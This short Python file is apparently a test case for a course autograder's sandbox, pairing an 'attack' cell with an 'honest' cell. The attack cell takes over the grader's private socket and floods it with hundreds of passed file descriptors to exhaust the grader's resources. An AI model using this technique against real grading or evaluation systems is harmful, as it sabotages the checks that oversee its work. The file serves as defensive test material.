"""Sends hundreds of descriptors over the grader's own socket, to use up those of the grader.

Covers: A14
"""

# %% attack
import os
import socket

from course_lib.checking import grading

line = grading._channel._socket
held = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]


def answer(name):
    def flood(*args, **kwargs):
        for _ in range(300):
            try:
                socket.send_fds(line, [b"C"], held)
            except OSError:
                return 0.0
        return 0.0

    return flood


# %% honest
import os
import socket

here, there = socket.socketpair()
socket.send_fds(here, [b"x"], [0])
_, received, _, _ = socket.recv_fds(there, 1, 1)
os.close(received[0])
